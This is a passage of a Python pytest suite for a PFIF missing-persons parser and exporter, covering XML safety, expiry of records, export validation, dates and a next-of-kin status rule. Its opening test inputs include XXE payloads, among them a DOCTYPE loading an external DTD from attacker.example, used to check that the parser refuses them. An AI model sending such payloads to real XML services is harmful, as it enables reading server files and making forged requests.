        '<!DOCTYPE p SYSTEM "http://attacker.example/evil.dtd">',
        '<!DOCTYPE p [<!ENTITY secret "internal">]>',
    ],
    ids=["external general entity", "external parameter entity", "external DTD", "internal entity"],
)
def test_entities_and_dtds_are_refused(doctype: str) -> None:
    data = f"""<?xml version="1.0"?>
{doctype}
<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">
  <pfif:person>
    <pfif:person_record_id>example.org/p</pfif:person_record_id>
    <pfif:source_date>2019-04-21T06:00:00Z</pfif:source_date>
    <pfif:full_name>&secret;</pfif:full_name>
  </pfif:person>
</pfif:pfif>""".encode()
    with pytest.raises(PfifFormatError) as info:
        parse_pfif(data, now=NOW)
    assert "root:" not in str(info.value)
    assert isinstance(info.value, ValueError)


def test_size_limit() -> None:
    data = export_pfif([_person(i) for i in range(50)], now=NOW)
    assert len(parse_pfif(data, max_bytes=len(data), now=NOW).persons) == 50
    with pytest.raises(PfifFormatError, match=rf"{len(data)} bytes, more than the limit of {len(data) - 1}"):
        parse_pfif(data, max_bytes=len(data) - 1, now=NOW)
    assert DEFAULT_MAX_BYTES == 50 * 1024 * 1024


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b'<?xml version="1.0"?>\n<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">\n<pfif:person>\n'
         b"<pfif:full_name>x</pfif:full_nam>\n</pfif:person>\n</pfif:pfif>", 4),
        (b'<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">\n\n\n\n<pfif:person>a & b</pfif:person>\n</pfif:pfif>', 5),
        (b'<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">\n<pfif:person>\n', 3),
        (b'<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">\n<pfif:text>\x01</pfif:text>\n</pfif:pfif>', 2),
        (b'<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">\n<pfif:text>\xff\xfe</pfif:text>\n</pfif:pfif>', 2),
        (b"", 1),
    ],
    ids=["mismatched tag", "bare ampersand", "truncated", "control character", "invalid UTF-8", "empty"],
)  # fmt: skip
def test_malformed_xml_gives_a_format_error_with_the_line(data: bytes, line: int) -> None:
    with pytest.raises(PfifFormatError, match=rf"malformed XML at line {line}, column \d+: \w"):
        parse_pfif(data, now=NOW)


def test_documents_that_are_not_pfif() -> None:
    with pytest.raises(PfifFormatError, match="not a PFIF document"):
        parse_pfif(b'<feed xmlns="http://www.w3.org/2005/Atom"><entry/></feed>', now=NOW)
    with pytest.raises(PfifFormatError, match="unsupported PFIF version"):
        parse_pfif(b'<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/2.0"/>', now=NOW)


# --- expiry ------------------------------------------------------------------------------------------------


def test_an_expired_person_is_exported_as_a_placeholder_without_notes() -> None:
    gone = _person(
        1,
        expiry_date=NOW - timedelta(seconds=1),
        entry_date=_t(7),
        full_name="李娜",
        description="private",
        home_city="成都",
    )
    gone.notes = [_note(1, gone.person_record_id, text="private note")]
    kept = _person(2, expiry_date=NOW + timedelta(days=1))
    data = export_pfif([gone, kept], notes=[_note(2, gone.person_record_id), _note(3, kept.person_record_id)], now=NOW)

    assert "李娜".encode() not in data and b"private" not in data and "成都".encode() not in data
    root = ElementTree.fromstring(data)
    placeholder_el = root.findall("pfif:person", NS)[0]
    assert [c.tag.split("}")[1] for c in placeholder_el] == [
        "person_record_id",
        "entry_date",
        "expiry_date",
        "source_date",
        "full_name",
    ]
    doc = parse_pfif(data, now=NOW)
    assert doc.errors == []
    assert doc.persons == [placeholder(gone), kept]
    assert doc.persons[0].is_expired(NOW) and not doc.persons[1].is_expired(NOW)
    assert [n.note_record_id for n in doc.notes] == [f"{DOMAIN}/note.3"]


def test_an_expired_record_received_in_full_is_reduced_to_its_placeholder() -> None:
    gone = _person(1, expiry_date=NOW - timedelta(days=2), full_name="张伟", description="private")
    gone.notes = [_note(1, gone.person_record_id)]
    data = export_pfif([gone], notes=[_note(2, gone.person_record_id)], now=NOW - timedelta(days=3))
    assert "张伟".encode() in data  # not yet expired when it was written
    doc = parse_pfif(data, now=NOW)
    assert doc.persons == [placeholder(gone)]
    assert doc.notes == [] and doc.errors == []


def test_a_person_without_full_name_that_has_not_expired_is_an_error() -> None:
    data = export_pfif([_person(1, expiry_date=NOW - timedelta(days=1))], now=NOW)
    assert parse_pfif(data, now=NOW).errors == []
    errors = parse_pfif(data, now=NOW - timedelta(days=2)).errors
    assert [(e.record, e.field) for e in errors] == [(f"{DOMAIN}/person.1", "full_name")]


# --- export validation -------------------------------------------------------------------------------------


def test_export_refuses_records_that_would_be_invalid_pfif() -> None:
    naive = datetime(2019, 4, 21, 8, 0)  # deliberately naive
    cases: list[tuple[PfifPerson, tuple[str, str]]] = [
        (_person(1, full_name=""), (f"{DOMAIN}/person.1", "full_name")),
        (_person(1, person_record_id="person-1"), ("person-1", "person_record_id")),
        (_person(1, source_date=naive), (f"{DOMAIN}/person.1", "source_date")),
        (_person(1, sex="F"), (f"{DOMAIN}/person.1", "sex")),
        (_person(1, date_of_birth="02/03/1961"), (f"{DOMAIN}/person.1", "date_of_birth")),
        (_person(1, age="-1"), (f"{DOMAIN}/person.1", "age")),
        (_person(1, home_country="China"), (f"{DOMAIN}/person.1", "home_country")),
        (_person(1, notes=[_note(1, f"{DOMAIN}/person.2")]), (f"{DOMAIN}/note.1", "person_record_id")),
        (_person(1, notes=[_note(1, f"{DOMAIN}/person.1", status="deceased")]), (f"{DOMAIN}/note.1", "status")),
        (_person(1, notes=[_note(1, f"{DOMAIN}/person.1", author_name=" ")]), (f"{DOMAIN}/note.1", "author_name")),
    ]
    for person, (record, field) in cases:
        assert [(e.record, e.field) for e in validate_person(person, now=NOW)] == [(record, field)]
        with pytest.raises(PfifExportError) as info:
            export_pfif([person], now=NOW)
        assert [(e.record, e.field) for e in info.value.errors] == [(record, field)]
        assert isinstance(info.value, ValueError)
    with pytest.raises(PfifExportError, match="note_record_id"):
        export_pfif([], notes=[_note(1, f"{DOMAIN}/person.1", note_record_id="n1")], now=NOW)
    assert validate_note(_note(1, f"{DOMAIN}/person.1", entry_date=naive))[0].field == "entry_date"


# --- helpers -----------------------------------------------------------------------------------------------


def test_record_ids() -> None:
    assert record_id("Consular.Example.gov.CN", "person.5f3a-9c") == "consular.example.gov.cn/person.5f3a-9c"
    assert split_record_id("consular.example.gov.cn/person.1") == ("consular.example.gov.cn", "person.1")
    assert split_record_id("Example.ORG/a/b c") == ("example.org", "a/b c")
    for domain, local in [("", "1"), ("exa mple.org", "1"), ("example.org/", "1"), ("-x.org", "1")]:
        with pytest.raises(ValueError, match="domain"):
            record_id(domain, local)
    for local in ["", "a b", "中文", "a\nb"]:
        with pytest.raises(ValueError, match="local record id"):
            record_id("example.org", local)
    for rid in ["", "example.org", "example.org/", "/1", "exa mple.org/1", "example.org/a\nb"]:
        with pytest.raises(ValueError, match="not a PFIF record id"):
            split_record_id(rid)


def test_format_and_parse_dates() -> None:
    assert format_date(datetime(2019, 4, 21, 8, 5, 9, 123456, tzinfo=UTC)) == "2019-04-21T08:05:09Z"
    assert format_date(datetime(2019, 4, 21, 2, 0, tzinfo=timezone(timedelta(hours=-6)))) == "2019-04-21T08:00:00Z"
    assert format_date(datetime(999, 1, 2, tzinfo=UTC)) == "0999-01-02T00:00:00Z"
    with pytest.raises(ValueError, match="timezone-aware"):
        format_date(datetime(2019, 4, 21))  # deliberately naive
    parsed = parse_date("2019-04-21T08:05:09Z")
    assert parsed == datetime(2019, 4, 21, 8, 5, 9, tzinfo=UTC) and parsed.tzinfo is UTC
    assert parse_date("2019-04-21T08:05:09.5Z").microsecond == 500_000
    assert parse_date("2019-04-21T08:05:09.1234567Z").microsecond == 123_456
    for bad in ["2019-04-21", "2019-04-21T08:05Z", "2019-04-21T08:05:09z", "2019-04-21T08:05:60Z", "x"]:
        with pytest.raises(ValueError, match=r"PFIF time|valid time"):
            parse_date(bad)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", format_date(NOW))


# --- statuses and the next-of-kin rule ---------------------------------------------------------------------

STATUS_TABLE = [
    ("safe", "believed_alive"),
    ("injured", "believed_alive"),
    ("hospitalised", "believed_alive"),
    ("missing", "believed_missing"),
    ("unaccounted", "believed_missing"),
    ("deceased", "believed_dead"),
    ("unconfirmed", ""),
    ("awaiting_notification", ""),
]


@pytest.mark.parametrize(("registry", "pfif"), STATUS_TABLE)
def test_status_to_pfif(registry: str, pfif: str) -> None:
    assert status_to_pfif(registry) == pfif


def test_status_table_covers_every_registry_status() -> None:
    assert sorted(r for r, _ in STATUS_TABLE) == sorted(REGISTRY_STATUSES)
    assert all(status_to_pfif(s) in ("", *NOTE_STATUS_VALUES) for s in REGISTRY_STATUSES)


def test_awaiting_notification_never_becomes_believed_dead() -> None:
    """Next of kin first: only the public 'deceased' (after the family was told) may say believed_dead."""
    assert status_to_pfif("awaiting_notification") == ""
    assert [s for s in REGISTRY_STATUSES if status_to_pfif(s) == "believed_dead"] == ["deceased"]
    person = _person(1)
    person.notes = [_note(1, person.person_record_id, status=status_to_pfif("awaiting_notification"))]
    data = export_pfif([person], now=NOW)
    assert b"believed_dead" not in data and b"<pfif:status>" not in data


@pytest.mark.parametrize(
    ("pfif", "registry"),
    [
        ("believed_alive", "safe"),
        ("is_note_author", "safe"),
        ("believed_missing", "missing"),
        ("believed_dead", "unconfirmed"),
        ("information_sought", ""),
        ("", ""),
    ],
)
def test_pfif_to_status(pfif: str, registry: str) -> None:
    assert pfif_to_status(pfif) == registry
    assert registry == "" or registry in REGISTRY_STATUSES


def test_a_death_reported_from_outside_is_never_recorded_as_deceased() -> None:
    assert all(pfif_to_status(s) not in ("deceased", "awaiting_notification") for s in ("", *NOTE_STATUS_VALUES))


def test_unknown_statuses_raise() -> None:
    with pytest.raises(ValueError, match="registry status"):
        status_to_pfif("dead")
    with pytest.raises(ValueError, match="PFIF note status"):
        pfif_to_status("deceased")
